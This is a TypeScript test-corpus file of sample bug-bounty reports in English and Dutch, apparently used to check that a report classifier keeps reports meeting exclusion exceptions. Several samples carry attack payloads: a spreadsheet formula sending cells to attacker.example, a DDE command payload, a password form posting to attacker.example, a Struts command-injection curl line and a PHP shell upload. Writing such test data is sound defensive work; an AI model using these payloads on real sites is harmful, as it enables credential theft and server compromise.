import type { CorpusItem } from "./types.js";

/** Reports that use an exclusion's terms but meet one of its exceptions, so they stay in. */
export const exceptionReports: CorpusItem[] = [
  {
    name: "Clickjacking on account deletion",
    lang: "en",
    title: "Clickjacking on account deletion page",
    body: `The page https://mijnpartnergroep.nl/account/verwijderen can be framed. With two clicks a victim deletes their account: the attacker overlays a "Win a prize" button on top of the delete account button.

PoC attached: poc.html with <iframe src="https://mijnpartnergroep.nl/account/verwijderen" style="opacity:0">`,
    exceptions: ["clickjacking/sensitive-action"],
  },
  {
    name: "UI redressing on change email",
    lang: "en",
    title: "UI redressing lets an attacker change the victim's email address",
    body: `The settings page https://mijnbouwpartner.nl/instellingen is frameable. The email field is prefilled from the URL, so a framed page plus one click changes the victim's email address, after which a password reset gives the attacker the account.

Steps to reproduce:
1. Host poc.html framing /instellingen?email=attacker@example.com
2. Click the decoy button.`,
    exceptions: ["clickjacking/sensitive-action"],
  },
  {
    name: "Dutch clickjacking payment",
    lang: "nl",
    title: "Clickjacking op betaling bevestigen",
    body: `De pagina https://mijnpartnergroep.nl/bestellen/bevestigen kan in een iframe geladen worden. Een aanvaller kan een gebruiker laten klikken op de knop om de betaling te bevestigen. Stappen: maak een pagina met een onzichtbare iframe over een nepknop.`,
    exceptions: ["clickjacking/sensitive-action"],
  },
  {
    name: "Session cookie without HttpOnly",
    lang: "en",
    title: "Session cookie without HttpOnly flag",
    body: `The PHPSESSID cookie set by https://portal.openworx.nl is missing the HttpOnly flag, so any XSS can read the session cookie and hijack the session.

Steps to reproduce: log in at https://portal.openworx.nl and check the cookie attributes in developer tools.`,
    exceptions: ["cookie-flags/sensitive-cookie"],
  },
  {
    name: "Dutch session cookie secure",
    lang: "nl",
    title: "Sessiecookie zonder Secure vlag",
    body: `De sessiecookie (laravel_session) van https://portal.openworx.nl wordt zonder Secure vlag gezet en wordt dus ook over HTTP verstuurd. Stappen: log in en bekijk de cookie in de ontwikkelaarstools.`,
    exceptions: ["cookie-flags/sensitive-cookie"],
  },
  {
    name: "Exposed .git directory",
    lang: "en",
    title: "Publicly accessible .git directory exposes source code and credentials",
    body: `The directory https://www.openworx.nl/.git/ is publicly accessible. I downloaded /.git/config and it contains a deploy token, and the source contains database credentials.

Steps to reproduce: curl https://www.openworx.nl/.git/config`,
    exceptions: ["public-nonsensitive-file/sensitive-data"],
  },
  {
    name: "Directory listing with backups",
    lang: "en",
    title: "Directory listing exposes database backup",
    body: `Directory listing is enabled on https://www.openworx.nl/backup/ and it contains a database dump (site_2023.sql) with customer records and password hashes.

Steps to reproduce: open https://www.openworx.nl/backup/ and click the .sql file. I only read the first line to confirm.`,
    exceptions: ["public-nonsensitive-file/sensitive-data"],
  },
  {
    name: "Rate limiting leads to account takeover",
    lang: "en",
    title: "Missing rate limiting on OTP verification leads to account takeover",
    body: `There is no rate limiting on https://portal.openworx.nl/api/verify-otp. The OTP is 4 digits. I brute forced the OTP of my own second account in under 3 minutes and logged in without access to the phone, which is a full account takeover.

Steps to reproduce: run the attached script against your own account.`,
    exceptions: ["rate-limiting/clear-impact"],
  },
  {
    name: "Dutch rate limiting with impact",
    lang: "nl",
    title: "Geen rate limiting op pincode: account overgenomen",
    body: `Op https://portal.openworx.nl/pincode ontbreekt rate limiting. De pincode heeft 4 cijfers en ik heb bij mijn eigen testaccount de code geraden na 2300 pogingen. Daarmee is het account overgenomen zonder de sms te ontvangen. Stappen: zie bijgevoegd script.`,
    exceptions: ["rate-limiting/clear-impact"],
  },
  {
    name: "Outdated library with working exploit",
    lang: "en",
    title: "Outdated Apache Struts version with working exploit (CVE-2017-5638)",
    body: `https://portal.openworx.nl runs an outdated Apache Struts version. I have a working proof of concept: sending a crafted Content-Type header executes the id command on the server.

Steps to reproduce:
curl -H "Content-Type: %{(#_='multipart/form-data')...(#cmd='id')}" https://portal.openworx.nl/login.action`,
    exceptions: ["outdated-software/working-poc"],
  },
  {
    name: "Dutch outdated plugin with PoC",
    lang: "nl",
    title: "Verouderde versie van plugin met werkende exploit",
    body: `Op https://mijnpartnergroep.nl draait een verouderde versie van de formulierenmodule. Ik heb een werkende exploit: via het uploadveld kan een PHP-bestand geplaatst worden dat wordt uitgevoerd. Stappen: upload shell.php via /formulier/upload en open /uploads/shell.php.`,
    exceptions: ["outdated-software/working-poc"],
  },
  {
    name: "CSV injection with exfiltration",
    lang: "en",
    title: "CSV injection leads to data exfiltration from admin export",
    body: `The customer name is written unescaped to the admin export at https://mijnpartnergroep.nl/admin/export. With the payload =HYPERLINK("https://attacker.example/?d="&B2:B9,"Open") the neighbouring cells are sent to my server when an admin clicks the link. I demonstrated this with my own two test accounts.

Steps to reproduce: set the name to the payload and export.`,
    exceptions: ["csv-injection/demonstrated-exploit"],
  },
  {
    name: "DDE calc",
    lang: "en",
    title: "Formula injection executes calc.exe on staff machine",
    body: `The contact form at https://mijnbouwpartner.nl/contact stores input that ends up in the CSV export. The payload =cmd|' /C calc'!A0 launched calc.exe when the export was opened in Excel on my test machine.

Steps to reproduce: submit the payload in the message field and open the exported CSV.`,
    exceptions: ["csv-injection/demonstrated-exploit"],
  },
  {
    name: "Content spoofing with HTML",
    lang: "en",
    title: "Content spoofing with HTML injection allows a fake login form",
    body: `The "msg" parameter of https://mijnpartnergroep.nl/info?msg= is rendered without encoding. I can inject HTML such as <form action="https://attacker.example/collect"><input name="password"></form> and show a fake login form on your domain.

Steps to reproduce: open https://mijnpartnergroep.nl/info?msg=%3Ch1%3EHello%3C/h1%3E`,
    exceptions: ["content-spoofing/attack-vector"],
  },
  {
    name: "Dutch text injection with link",
    lang: "nl",
    title: "Tekstinjectie met klikbare link",
    body: `Via de parameter titel op https://mijnbouwpartner.nl/actie?titel= kan ik een link injecteren: <a href="https://phish.example">Log opnieuw in</a> wordt als klikbare link getoond. Stappen: open de URL met de payload in de parameter.`,
    exceptions: ["content-spoofing/attack-vector"],
  },
  {
    name: "HTML injection in email",
    lang: "en",
    title: "HTML injection in invitation email",
    body: `The inviter name in team invitations from https://mijnpartnergroep.nl/team is inserted into the email body without escaping. I can inject links and images into an email sent by your domain.

Steps to reproduce:
1. Set your name to <a href="https://attacker.example">Click here to verify</a>
2. Invite a colleague.`,
    exceptions: ["content-spoofing/attack-vector"],
  },
];
